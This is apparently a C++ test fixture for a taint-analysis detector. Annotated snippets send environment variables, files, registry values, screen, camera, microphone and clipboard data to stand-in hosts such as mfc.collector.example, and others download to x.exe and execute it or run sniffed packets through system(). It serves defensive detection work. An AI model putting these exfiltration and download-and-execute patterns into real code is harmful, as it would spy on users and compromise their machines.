// Windows by its C++ faces; packets; video.
#include <afxinet.h>

void session() {
    CInternetSession session("app"); //~ capability(NETWORK)
    session.OpenURL(getenv("T")); //~ source(ENVIRONMENT) f1, sink(egress.http) f1, finding(traced) f1, capability(NETWORK)
}

void connection(CInternetSession &session) {
    CHttpConnection *c = session.GetHttpConnection("mfc.collector.example"); //~ capability(NETWORK), endpoint("mfc.collector.example")
    CHttpFile *f = c->OpenRequest(CHttpConnection::HTTP_VERB_POST, "/u");
    f->SendRequest(0, 0, getenv("T"), 9); //~ source(ENVIRONMENT) f2, sink(egress.http) f2, finding(traced) f2, capability(NETWORK)
}

void connection_typed(CInternetSession &session) {
    session.GetHttpConnection("mfc.collector.example")->OpenRequest(1, getenv("T")); //~ source(ENVIRONMENT) f3, sink(egress.http) f3, finding(traced) f3, capability(NETWORK)
}

void opened_typed(CInternetSession &session) {
    session.OpenURL("https://mfc.collector.example")->WriteString(getenv("T")); //~ source(ENVIRONMENT) f4, sink(egress.http) f4, finding(traced) f4
}

void file_typed(CHttpConnection *c) {
    c->OpenRequest(1, "/u")->Write(getenv("T"), 9); //~ source(ENVIRONMENT) f5, sink(egress.http) f5, finding(traced) f5, capability(NETWORK)
}

void answer(CHttpFile *f) {
    char b[64];
    f->Read(b, 64); //~ source(NETWORK) f6, capability(NETWORK)
    system(b); //~ sink(exec.command) f6, finding(traced) f6
}

void constants(CHttpConnection *c, CHttpFile *f) {
    char b[64];
    CInternetSession session("app"); //~ ok
    session.OpenURL("https://mfc.collector.example"); //~ ok
    session.GetHttpConnection("mfc.collector.example"); //~ ok
    c->OpenRequest(1, "/u"); //~ ok
    f->SendRequest(0, 0, "x", 1); //~ ok
    f->Write("x", 1); //~ ok
    f->Read(b, 64); //~ ok
}

void put(CFtpConnection *c) {
    c->PutFile("C:\\x.txt", "x.txt"); //~ source(FILE) f8, sink(egress.ftp) f8, finding(traced) f8, capability(NETWORK), capability(FILES)
    auto later = c->PutFile; //~ ok
}

void file(CSocket &s) {
    char name[64], b[64];
    s.Receive(name, 64);
    CFile f(name, CFile::modeRead);
    f.Read(b, 64); //~ source(FILE) f9, capability(FILES)
    s.Send(b, 64); //~ sink(egress.socket) f9, finding(remote-directed-file-collection, traced) f9
}

void file_opened(CSocket &s) {
    char name[64], b[64];
    s.Receive(name, 64);
    CFile f;
    f.Open(name, CFile::modeRead);
    f.Read(b, 64); //~ source(FILE) f10
    s.Send(b, 64); //~ sink(egress.socket) f10, finding(remote-directed-file-collection, traced) f10
}

void file_written(CSocket &s) {
    char b[64], name[] = "x.exe";
    CFile f(name, CFile::modeWrite);
    s.Receive(b, 64); //~ source(NETWORK) f11, capability(NETWORK)
    f.Write(b, 64); //~ sink(file.write) f11, finding(traced) f11, capability(FILE_WRITE)
    system(name); //~ sink(exec.command) f11, finding(download-and-execute, traced) f11
}

void file_opened_and_written(CSocket &s) {
    char b[64], name[] = "x.exe";
    CFile f;
    f.Open(name, CFile::modeWrite);
    s.Receive(b, 64); //~ source(NETWORK) f12
    f.Write(b, 64); //~ sink(file.write) f12, finding(traced) f12
    system(name); //~ sink(exec.command) f12, finding(download-and-execute, traced) f12
}

void socket(CSocket &s) {
    s.Connect("mfcs.collector.example", 443); //~ capability(NETWORK), endpoint("mfcs.collector.example")
    s.Send(getenv("T"), 9); //~ source(ENVIRONMENT) f13, sink(egress.socket) f13, finding(traced) f13, capability(NETWORK)
}

void file_constants(CSocket &s) {
    char b[64];
    CFile f("x", CFile::modeRead); //~ ok
    f.Open("y", CFile::modeRead); //~ ok
    f.Write("x", 1); //~ ok
    f.Read(b, 64); //~ ok
    s.Connect("mfcs.collector.example", 443); //~ ok
    s.Receive(b, 64); //~ ok
    s.Send("x", 1); //~ ok
}

void text(CSocket &s) {
    CString t(getenv("T")); //~ source(ENVIRONMENT) f15
    s.Send(t, 9); //~ sink(egress.socket) f15, finding(traced) f15
}

void text_formatted(CSocket &s) {
    CString t;
    t.Format("t=%s", getenv("T")); //~ source(ENVIRONMENT) f16
    s.Send(t.Mid(0), 9); //~ sink(egress.socket) f16, finding(traced) f16
}

void text_constants(CSocket &s) {
    CString t("x"); //~ ok
    t.Format("v=%d", 1); //~ ok
    s.Send(t.Mid(0), 9); //~ ok
}

void registry(CSocket &s, CRegKey &key) {
    char b[64];
    ULONG n = 64;
    key.QueryStringValue("x", b, &n); //~ source(REGISTRY) f18, capability(REGISTRY)
    s.Send(b, 64); //~ sink(egress.socket) f18, finding(traced) f18
    key.QueryStringValue("x", b, &n); //~ ok
}

void screen(CSocket &s, HDC from, HBITMAP bitmap, IStream *stream) {
    IDXGIOutputDuplication *d;
    IDXGIResource *r;
    d->AcquireNextFrame(100, 0, &r); //~ source(SCREEN) f19, capability(SCREEN)
    s.Send(r, 9); //~ sink(egress.socket) f19, finding(traced) f19
    d->AcquireNextFrame(100, 0, &r); //~ ok
}

void screen_saved(CSocket &s, IDirect3DDevice9 *d) {
    char name[] = "x.png";
    IDirect3DSurface9 *surface;
    d->GetFrontBufferData(0, surface); //~ source(SCREEN) f20, capability(SCREEN)
    Gdiplus::Bitmap b(surface);
    CFile f(name, CFile::modeRead);
    b.Save(name, 0); //~ capability(FILE_WRITE)
    char bytes[64];
    f.Read(bytes, 64); //~ ok
    CStreamOnFile stream;
    b.Save(&stream, 0);
    s.Send(&stream, 9); //~ sink(egress.socket) f20, finding(traced) f20
}

void screen_kept(IDirect3DDevice9 *d, IStream *stream) {
    IDirect3DSurface9 *surface;
    d->GetFrontBufferData(0, surface); //~ ok
    auto b = Gdiplus::Bitmap::FromHBITMAP(0, 0); //~ ok
    b->Save(stream, 0); //~ ok
}

void camera(CSocket &s, IMFSourceReader *reader) {
    IMFSample *sample;
    IMFMediaBuffer *buffer;
    BYTE *data;
    reader->ReadSample(0, 0, 0, 0, &sample); //~ source(CAMERA) f22, capability(CAMERA)
    sample->ConvertToContiguousBuffer(&buffer);
    buffer->Lock(&data, 0, 0);
    s.Send(data, 9); //~ sink(egress.socket) f22, finding(traced) f22
    reader->ReadSample(0, 0, 0, 0, &sample); //~ ok
}

void camera_grabbed(CSocket &s, ISampleGrabber *g) {
    char b[64];
    long n;
    g->GetCurrentBuffer(&n, b); //~ source(CAMERA) f23, capability(CAMERA)
    s.Send(b, 64); //~ sink(egress.socket) f23, finding(traced) f23
    g->GetCurrentBuffer(&n, b); //~ ok
}

void camera_constant(CSocket &s, IMFMediaBuffer *buffer) {
    BYTE *data;
    buffer->Lock(&data, 0, 0); //~ ok
    s.Send(data, 9); //~ ok
}

void microphone(CSocket &s, IAudioCaptureClient *c) {
    BYTE *data;
    c->GetBuffer(&data, 0, 0, 0, 0); //~ source(AUDIO) f25, capability(MICROPHONE)
    s.Send(data, 9); //~ sink(egress.socket) f25, finding(traced) f25
    c->GetBuffer(&data, 0, 0, 0, 0); //~ ok
}

void management(CSocket &s, IWbemServices *services) {
    IEnumWbemClassObject *all;
    IWbemClassObject *one;
    services->ExecQuery("WQL", "SELECT * FROM Win32_BIOS", 0, 0, &all); //~ source(DEVICE) f26, capability(DEVICE)
    all->Next(1, 1, &one, 0);
    s.Send(one, 9); //~ sink(egress.socket) f26, finding(traced) f26
    services->ExecQuery("WQL", "SELECT * FROM Win32_BIOS", 0, 0, &all); //~ ok
}

void management_value(CSocket &s, IWbemClassObject *one) {
    VARIANT v;
    one->Get("SerialNumber", 0, &v, 0, 0); //~ source(DEVICE) f27, capability(DEVICE)
    s.Send(v.bstrVal, 9); //~ sink(egress.socket) f27, finding(traced) f27
    one->Get("SerialNumber", 0, &v, 0, 0); //~ ok
}

void management_nothing(CSocket &s, IEnumWbemClassObject *all) {
    IWbemClassObject *one;
    all->Next(1, 1, &one, 0); //~ ok
    s.Send(one, 9); //~ ok
}

void automation(CSocket &s, IUIAutomationElement *e) {
    BSTR name;
    e->get_CurrentName(&name); //~ source(SCREEN) f29, capability(SCREEN)
    s.Send(name, 9); //~ sink(egress.socket) f29, finding(traced) f29
    e->get_CurrentName(&name); //~ ok
}

void clipboard(CSocket &s) {
    auto c = winrt::Windows::ApplicationModel::DataTransfer::Clipboard::GetContent(); //~ source(CLIPBOARD) f30, capability(CLIPBOARD)
    s.Send(c, 9); //~ sink(egress.socket) f30, finding(traced) f30
    auto d = winrt::Windows::ApplicationModel::DataTransfer::Clipboard::GetContent(); //~ ok
}

void web(winrt::Windows::Web::Http::HttpClient &c) {
    c.PostAsync(winrt::Windows::Foundation::Uri("https://rt.collector.example"), getenv("T")); //~ source(ENVIRONMENT) f31, sink(egress.http) f31, finding(traced) f31, capability(NETWORK), endpoint("https://rt.collector.example")
}

void web_content(winrt::Windows::Web::Http::HttpClient &c, winrt::Windows::Foundation::Uri &u) {
    winrt::Windows::Web::Http::HttpStringContent body(getenv("T")); //~ source(ENVIRONMENT) f32
    c.PostAsync(u, body); //~ sink(egress.http) f32, finding(traced) f32, capability(NETWORK)
}

void web_constant(winrt::Windows::Web::Http::HttpClient &c, winrt::Windows::Foundation::Uri &u) {
    c.PostAsync(u, winrt::Windows::Web::Http::HttpStringContent("x")); //~ ok
}

void helpers(CSocket &s) {
    auto t = wil::GetEnvironmentVariableW(L"T"); //~ source(ENVIRONMENT) f34, capability(ENVIRONMENT)
    s.Send(t.get(), 9); //~ sink(egress.socket) f34, finding(traced) f34
    auto u = wil::GetEnvironmentVariableW(L"T"); //~ ok
}

void helpers_registry(CSocket &s) {
    auto t = wil::reg::get_value_string(HKEY_CURRENT_USER, L"x", L"y"); //~ source(REGISTRY) f35, capability(REGISTRY)
    s.Send(t.c_str(), 9); //~ sink(egress.socket) f35, finding(traced) f35
    auto u = wil::reg::get_value_string(HKEY_CURRENT_USER, L"x", L"y"); //~ ok
}

void sniffed(CSocket &s) {
    Tins::Sniffer sniffer("eth0"); //~ source(NETWORK) f36, capability(NETWORK)
    for (auto &packet : sniffer) {
        system(packet.to_string().c_str()); //~ sink(exec.command) f36, finding(assumed) f36
    }
}

void sniffed_loop(Tins::Sniffer &sniffer) {
    sniffer.sniff_loop([](Tins::PDU &pdu) { //~ source(NETWORK) f37, capability(NETWORK)
        system(pdu.to_string().c_str()); //~ sink(exec.command) f37, finding(traced) f37
        return true;
    });
}

void packet(Tins::PacketSender &sender) {
    Tins::RawPDU p(getenv("T")); //~ source(ENVIRONMENT) f38
    sender.send(p); //~ sink(egress.socket) f38, finding(traced) f38, capability(NETWORK)
}

void packet_constants(Tins::PacketSender &sender) {
    Tins::Sniffer sniffer("eth0"); //~ ok
    sniffer.sniff_loop([](Tins::PDU &pdu) { return true; }); //~ ok
    Tins::RawPDU p("x"); //~ ok
    sender.send(p); //~ ok
}

void device(pcpp::PcapLiveDevice *d) {
    d->sendPacket(getenv("T")); //~ source(ENVIRONMENT) f40, sink(egress.socket) f40, finding(traced) f40, capability(NETWORK)
    d->sendPacket("x"); //~ ok
}

void on_packet(pcpp::RawPacket *packet, pcpp::PcapLiveDevice *d, void *cookie) {
    system((const char *)packet->getRawData()); //~ sink(exec.command) f41, finding(assumed) f41
    d->startCapture(on_packet, cookie); //~ source(NETWORK) f41, capability(NETWORK)
}

void on_other_packet(pcpp::RawPacket *packet, pcpp::PcapLiveDevice *d, void *cookie) {
    d->startCapture(on_other_packet, cookie); //~ ok
}

void video(CSocket &s, cv::VideoCapture &capture) {
    cv::Mat frame;
    std::vector<uchar> bytes;
    capture.read(frame); //~ source(CAMERA) f43, capability(CAMERA)
    cv::imencode(".jpg", frame, bytes);
    s.Send(bytes.data(), 9); //~ sink(egress.socket) f43, finding(traced) f43
}

void picture(CSocket &s) {
    std::vector<uchar> bytes;
    cv::imencode(".jpg", cv::imread("/tmp/x.png"), bytes); //~ source(FILE) f44, capability(FILES)
    s.Send(bytes.data(), 9); //~ sink(egress.socket) f44, finding(traced) f44
}

void picture_written(cv::VideoCapture &capture, CSocket &s) {
    cv::Mat frame;
    const char *name = "/tmp/x.jpg";
    capture.read(frame); //~ source(CAMERA) f45
    cv::imwrite(name, frame); //~ capability(FILE_WRITE)
    std::ifstream in(name); //~ source(FILE) f45
    std::string line;
    std::getline(in, line);
    s.Send(line.c_str(), 9); //~ sink(egress.socket) f45, finding(traced) f45
}

void video_unsent(CSocket &s, cv::VideoCapture &capture) {
    cv::Mat frame, other;
    std::vector<uchar> bytes;
    capture.read(frame); //~ ok
    cv::imencode(".jpg", other, bytes); //~ ok
    cv::imwrite("/tmp/x.jpg", other); //~ ok
    auto p = cv::imread("/tmp/x.png"); //~ ok
    s.Send(bytes.data(), 9); //~ ok
}

void sent_IStream(SOCKET wire, IStream *stream, IStream *other) {
    char *token = getenv("A"); //~ source(ENVIRONMENT) is1
    stream->Write(token, 9, nullptr);
    char text[100];
    stream->Read(text, 100, nullptr);
    send(wire, text, 100, 0); //~ sink(egress.socket) is1, finding(environment-exfiltration, traced) is1
    other->Write("nothing", 7, nullptr); //~ ok
    other->Read(text, 100, nullptr); //~ ok
}

void sent_GetHGlobalFromStream(SOCKET wire, IStream *stream, IStream *other) {
    stream->Write(getenv("A"), 9, nullptr); //~ source(ENVIRONMENT) is2
    HGLOBAL memory, none;
    GetHGlobalFromStream(stream, &memory);
    send(wire, (char *)GlobalLock(memory), 100, 0); //~ sink(egress.socket) is2, finding(environment-exfiltration, traced) is2
    GetHGlobalFromStream(other, &none); //~ ok
    send(wire, (char *)GlobalLock(none), 100, 0); //~ ok
}
